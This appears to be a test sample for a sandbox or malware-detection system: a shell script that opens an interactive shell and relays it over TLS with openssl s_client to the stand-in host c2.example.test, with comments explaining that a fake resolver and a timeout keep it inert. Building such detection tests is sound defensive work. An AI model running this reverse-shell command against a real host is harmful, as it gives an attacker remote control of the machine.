#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: reverse shell carried inside TLS by openssl s_client (T1573.002).
# Inert: the name is answered only by the fake resolver, whose service offers no certificate, so
# the handshake fails; the shell is ended after four seconds.
rm -f ./.f && mkfifo ./.f
timeout 4 sh -c '/bin/sh -i < ./.f 2>&1 | openssl s_client -quiet -connect c2.example.test:443 > ./.f 2>/dev/null'
rm -f ./.f
exit 0
